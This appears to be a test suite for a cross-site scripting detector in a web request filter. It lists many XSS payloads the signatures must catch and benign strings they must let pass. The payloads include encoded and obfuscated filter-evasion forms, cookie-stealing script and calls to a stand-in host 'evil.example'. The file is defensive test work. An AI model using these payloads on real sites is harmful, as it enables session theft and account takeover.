import assert from 'node:assert/strict';
import { xss } from '../../../src/detection/signatures/xss/index.js';
import { XSS } from '../../../src/detection/signatures/xss/signatures.js';
import { found, type Seen, score } from '../found.js';

const families = [xss];

type Case = readonly [value: string, seen?: Seen];

/** Each value must show the signature, and block by what this family finds alone. */
function sees(what: string, signature: { readonly id: string }, ...cases: readonly Case[]): void {
  it(`sees ${what}`, () => {
    for (const [value, seen] of cases) {
      const ids = found(value, { ...seen, families });
      assert.ok(ids.includes(signature.id), `${signature.id} not among ${ids.join()} in ${value}`);
      assert.ok(score(value, { ...seen, families }) >= 40, value);
    }
  });
}

/** Weak evidence: reported, but it takes company to block. */
function notes(what: string, signature: { readonly id: string }, ...cases: readonly Case[]): void {
  it(`notes ${what}`, () => {
    for (const [value, seen] of cases) {
      assert.deepEqual(found(value, { ...seen, families }), [signature.id], value);
      assert.ok(score(value, { ...seen, families }) < 40, value);
    }
  });
}

function passes(what: string, ...cases: readonly Case[]): void {
  it(`lets ${what} pass`, () => {
    for (const [value, seen] of cases) {
      assert.ok(score(value, { ...seen, families }) < 40, `${value}: ${found(value, { ...seen, families }).join()}`);
    }
  });
}

const PROSE = 'Thank you for the article, it was a pleasure to read and I have learned quite a lot from it.';

describe('Cross-site scripting', () => {
  describe('elements', () => {
    sees(
      'a script element',
      XSS.scriptElement,
      ['<script>alert(1)</script>'],
      ['<ScRiPt src=//evil.example/a.js>'],
      ['<script/x>go()</script>'],
      ['%3Cscript%3Ego()%3C/script%3E', { place: 'query' }],
      ['%253Cscript%253Ego()%253C/script%253E', { place: 'query' }],
      ['&lt;script&gt;go()&lt;/script&gt;'],
      ['&#x3c;script&#62;go()'],
      ['\\u003cscript\\u003ego()'],
      ['\uff1cscript\uff1ego()\uff1c/script\uff1e'],
      ['<script'],
      ['<scr<script>ipt>go()'],
      [`${PROSE} <script>steal(document.cookie)</script>`],
      ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script>'],
    );
    sees('the end of a script element that is not open', XSS.scriptEnd, ['</script><b>'], ['1</script>']);
    sees(
      'a handler',
      XSS.eventHandler,
      ['<img src=x onerror=go()>'],
      ['<svg/onload=go`1`>'],
      ['<b onmouseover="go()">x</b>'],
      ["<x onpointerenter='go()'>"],
      ['<img src=x onerror\n=\ngo()>'],
      ['<img src="x"onerror="go()">'],
      ['<img src=`x`onerror=go()>'],
      ['<img/src="x"/onerror=go()'],
      ['<body onload!#$%&*~+-_.,:;?@[/|\\]^`=go()>'],
      ['<x onsomethingnew=go()>'],
      ['<p onclick='],
      ['<details open ontoggle=go()>', { place: 'cookie' }],
      ['<p title="<img src=x onerror=go()>">'],
      [`<p>${PROSE}</p><p onmouseover="go()">!</p>`],
      [`<p>${PROSE}</p><img src=x onerror="&#103;o&lpar;)">`],
    );
    sees(
      'an element that loads something',
      XSS.activeElement,
      ['<iframe src=//evil.example>'],
      ['<object data="//evil.example/x">'],
      ['<embed src="//evil.example/x.swf">'],
      ['<base href="//evil.example/">'],
      ['<meta http-equiv="refresh" content="0;url=//evil.example">'],
      ['<link rel=stylesheet href=//evil.example/x.css>'],
      ['<button formaction=//evil.example>x</button>'],
      ['<svg><set attributeName=onmouseover to=go()>'],
      ['<form action=//evil.example><input type="password" name=p>'],
      ['<svg><a xlink:href="//evil.example">x</a>'],
    );
    sees(
      'a document in an attribute',
      XSS.nestedDocument,
      ['<iframe srcdoc="<b>x</b>">'],
      [`${PROSE} <iframe srcdoc="x">`],
    );
    sees(
      'a tag that is spelled to hide',
      XSS.brokenTag,
      ['<s\0cript>go()</script>'],
      ['< script >go()'],
      ['<s c r i p t>go()'],
      ['<svg/x="y">'],
    );
    sees(
      'markup where nobody writes any',
      XSS.markupPlace,
      ['<em>x</em>', { place: 'header' }],
      ['<img src=x>', { place: 'user_agent' }],
      ['<em>x</em>', { place: 'path' }],
      ['<iframe src=x>', { role: 'name' }],
    );
    sees('an open attribute', XSS.danglingMarkup, ["<img src='//evil.example/?"], ['<form action="//evil.example/']);
    notes('an element of a page', XSS.weakElement, ['<form method=post>x</form>'], ['<svg width=1></svg>']);
    notes('a script of elsewhere in a long text', XSS.scriptSource, [`${PROSE} <script src="/app.js"></script>`]);
    passes(
      'what editors write',
      ['<p style="text-align:center;color:red">Hello <b>you</b></p>'],
      ['<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">docs</a>'],
      ['<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="a &lt; b">'],
      ['<iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>'],
      ['<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2z"/></svg>'],
      ['<video controls src="/a.mp4" poster="/a.jpg"></video>'],
      ['<input type="checkbox" checked disabled> Done'],
      ['<p>Use <code>&lt;script&gt;</code> with care</p>'],
      ['<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">'],
      ['<a href="javascript:void(0)">more</a>'],
    );
    passes(
      'angle brackets that are no markup',
      ['a < b && c > d'],
      ['I <3 you'],
      ['Map<String, List<Integer>> x'],
      ['John Doe <john@example.com>'],
      ['at new Promise (<anonymous>)'],
      ['<https://example.com/>; rel="next"', { place: 'header' }],
      ['to be binary<script is not right'],
      ['<name>John</name><link>https://example.com</link>', { place: 'xml' }],
      ['<Button onClick={() => open()}>Open</Button>'],
    );
    passes(
      'examples of code in a text',
      [`${PROSE} Write \`<script>go()</script>\` or \`<img onerror=go()>\` there.`],
      [`${PROSE}\n\n\`\`\`html\n<body onload="go()"><script>go()</script>\n\`\`\`\n`],
      ['Use `<script defer>` in the head of it'],
    );
  });

  describe('attributes and breakouts', () => {
    sees(
      'an attribute without its tag',
      XSS.attributeBreakout,
      ['" onmouseover=go() x="'],
      ["' autofocus onfocus='go()"],
      ['"onclick=go()//'],
      ['x onerror=go(1)'],
      ['"/onload="'],
      [' onload=', { role: 'name' }],
    );
    sees('the end of a tag, and another', XSS.tagBreakout, ['"><b>x'], ["'/><a href=x>"], ['--><i>x'], ['"x">y</a>']);
    sees(
      'the end of an element of text',
      XSS.elementBreakout,
      ['</title><b>x'],
      ['</textarea><p>'],
      ['</noscript><u>'],
    );
    sees(
      'the end of a string, and code',
      XSS.codeBreakout,
      ["';alert(1)//"],
      ['"-confirm(1)-"'],
      ["\\';prompt(1)//"],
      ["'});alert(1);({'"],
      ['";window.open(1)//'],
      [`${PROSE} ';alert(1)//`],
    );
    notes('a handler without a value', XSS.weakHandler, ['<p onclick>x</p>'], ['what is onclick= for']);
    passes(
      'words that look like handlers',
      ['one=1; only=2'],
      ['onboarding = done'],
      ['button.onclick = () => go()'],
      ['https://example.com/api.js?onload=ready', { place: 'json' }],
      ['at HTMLElement.onclick (app.js:1)'],
      ["O'Neil; D'Arcy"],
    );
  });

  describe('URLs and styles', () => {
    sees(
      'a URL that runs code in an attribute',
      XSS.scriptUrl,
      ['<a href=javascript:go()>x</a>'],
      ['<a href="java\tscript:go()">x</a>'],
      ['<a href="\u0001javascript:go()">x</a>'],
      ['<a href="&#106;avascript&colon;go()">x</a>'],
      ['<svg><animate values="x;javascript:go()" attributename=y>'],
      ['<meta content="0;url=javascript:go()">'],
      ['<p style="background:url(javascript:go())">'],
      ['<style>p{background:url("javascript:go()")}</style>'],
      ['<img src=java script:go()>'],
    );
    sees(
      'a URL that runs code as a value',
      XSS.bareUrl,
      ['javascript:go()'],
      ['JavaScript:go`1`'],
      ['java\nscript:x', { place: 'query', encoding: 'none' }],
      ['javascript://example.com/%0ago()', { place: 'query' }],
      ['vbscript:msgbox(1)'],
      ['[x](javascript:go())'],
      [`${PROSE} [x](javascript:alert(1))`],
    );
    sees(
      'a URL of data that holds a document',
      XSS.dataUrl,
      ['data:text/html,<b>x</b>'],
      ['data:text/html;base64,PGI+eDwvYj4='],
      ['<object data="data:text/html,x">'],
      ['<a href="data:application/octet-stream;base64,PGI+">x</a>'],
      ['<script src="data:,go()">'],
    );
    sees(
      'a style that runs code',
      XSS.style,
      ['<p style="width:expression(go())">'],
      ['<p style="width:ex/**/pression(go())">'],
      ['<p style="width:\\65xpression(go())">'],
      ['<p style="-moz-binding:url(x)">'],
      ['<p style="behavior:url(x)">'],
      ['<style>@import "//evil.example/x.css";</style>'],
      ['color:expression(go())'],
    );
    sees('a style that leaves its rule', XSS.weakStyle, ['<p style="x:y}z{color:red">'], ['<p style="\\63olor:red">']);
    passes(
      'harmless URLs and styles',
      ['javascript:void(0)'],
      ['javascript:;'],
      ['JavaScript: The Good Parts'],
      ['javascript: URLs are dangerous'],
      ['data:image/png;base64,iVBORw0KGgo='],
      ['background:url(/a.png)'],
      ['a regular expression(s) editor'],
      ['<p style="color: {{ color }}">x</p>'],
    );
  });

  describe('code', () => {
    sees(
      'a call of the browser',
      XSS.scriptCall,
      ['alert(1)'],
      ['alert`1`'],
      ['(alert)(1)'],
      ['alert/*x*/(1)'],
      ['[1].map(alert)'],
      ["eval('x')"],
      ['onerror=eval;throw 1'],
      ["setTimeout('x',1)"],
      ['String.fromCharCode(97,98)'],
      ["import('//evil.example/x.js')"],
      ['new Image().src=document.title'],
      ['x`$\x7balert}`'],
    );
    sees(
      'a secret or a sink of the page',
      XSS.domAccess,
      ['document.cookie'],
      ['document/*x*/.cookie'],
      ["location='//evil.example'"],
      ['window.location.replace(x)'],
      ['a.innerHTML=b'],
      ['with(document)write(1)'],
    );
    sees(
      'a computed name',
      XSS.computedAccess,
      ["window['al'+'ert'](1)"],
      ['top[/al/.source+/ert/.source](1)'],
      ['document["cookie"]'],
      ['self[`alert`]`1`'],
    );
    sees(
      'a function made of a text',
      XSS.constructorCall,
      ["[].constructor.constructor('go()')()"],
      ["[]['constructor']['constructor']('go()')()"],
      ["Function('go()')()"],
      ['new Function(x)()'],
    );
    sees('code of signs', XSS.symbolCode, ['[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]']);
    sees('UTF-7', XSS.utf7, ['+ADw-b+AD4-'], ['+ADw-script+AD4-', { place: 'query' }]);
    sees('lost high bits', XSS.highBit, ['\u00bcscript\u00bealert(\u00a21\u00a2)\u00bc/script\u00be']);
    sees('escapes that nobody writes', XSS.escapedText, ['&#0000060;'], ['x=\\u0061\\u006c\\u0065'], ['&#x3c;']);
    sees('old instructions', XSS.declaration, ['<!--[if IE]>x<![endif]-->'], ['<?import x>'], ['&{go(1)}']);
    notes('a function that hides code', XSS.weakCall, ["atob('eA==')"], ['unescape(x)']);
    passes(
      'sentences that name code',
      ['what does alert(1) do in a browser'],
      ['Try this: document.querySelector("#x").innerHTML = "hi" and reload the page'],
      ['is eval() evil or not'],
      [
        '<script setup lang="ts">\nimport { ref } from "vue"\nconst a = ref(0)\n</script>\n<template>\n  <p>{{ a }}</p>\n</template>\n<style scoped>\np { color: red; }\n</style>\n',
      ],
    );
    passes(
      'words of people',
      ['Please confirm (yes/no)'],
      ['Check the alert(s)'],
      ['Alert (3)'],
      ['The Function (2019)'],
      ['document (1).pdf'],
      ['location=Berlin'],
      ['parent[0].name'],
      ['this [is] a test (draft)'],
      ['ReferenceError: alert is not defined'],
      ['function(e){t(e)}'],
      ['![](https://example.com/a.png)'],
      ['[x] done [ ] open (1+1)'],
      ['/docs/document.cookie', { place: 'path' }],
      [`${PROSE} What does alert(1) do?`],
    );
  });
});
